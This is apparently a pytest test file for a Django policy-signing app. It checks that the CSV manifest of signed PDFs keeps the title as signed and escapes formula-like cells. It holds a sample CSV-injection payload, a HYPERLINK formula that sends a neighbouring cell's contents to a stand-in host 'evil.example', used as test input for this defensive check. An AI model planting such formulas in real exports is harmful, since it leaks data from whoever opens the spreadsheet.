"""The manifest of signed PDFs (the Audit page's zip and export_signed_pdfs): the policy as it
was signed, and no cell a spreadsheet would run as a formula."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse

from policies.models import Policy
from tests.assessment_factories import make_assessment, sign_through_workflow
from tests.factories import make_policy

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Open")'


def signed(owner, reviewer, signoff_officer, title):
    policy = make_policy(owner=owner, title=title, covenant_functions=["housing"])
    assessment = make_assessment(policy, by=owner, complete=True)
    return sign_through_workflow(
        assessment, owner=owner, reviewer=reviewer, signoff=signoff_officer
    )


def manifest_rows(client) -> list[dict[str, str]]:
    response = client.get(reverse("audit:zip"))
    archive = zipfile.ZipFile(
        io.BytesIO(b"".join(response.streaming_content) if response.streaming else response.content)
    )
    text = archive.read("manifest.csv").decode("utf-8")
    return list(csv.DictReader(io.StringIO(text)))


def test_the_manifest_shows_the_title_as_signed_not_a_later_one(
    client, owner, reviewer, signoff_officer, auditor
):
    assessment = signed(owner, reviewer, signoff_officer, "Housing Allocations Policy")
    Policy.objects.filter(pk=assessment.policy_id).update(title=FORMULA)
    client.force_login(auditor)
    [row] = manifest_rows(client)
    assert row["title"] == "Housing Allocations Policy"
    assert row["signed by"] == "Sam Sinclair"


def test_a_signed_title_that_looks_like_a_formula_is_guarded(
    client, owner, reviewer, signoff_officer, auditor
):
    signed(owner, reviewer, signoff_officer, FORMULA)
    client.force_login(auditor)
    [row] = manifest_rows(client)
    assert row["title"] == "'" + FORMULA


def test_export_signed_pdfs_writes_the_same_guarded_manifest(
    owner, reviewer, signoff_officer, tmp_path
):
    from django.core.management import call_command

    signed(owner, reviewer, signoff_officer, "@SUM(1+1)")
    call_command("export_signed_pdfs", str(tmp_path))
    rows = list(csv.DictReader(io.StringIO((tmp_path / "manifest.csv").read_text())))
    assert [row["title"] for row in rows] == ["'@SUM(1+1)"]
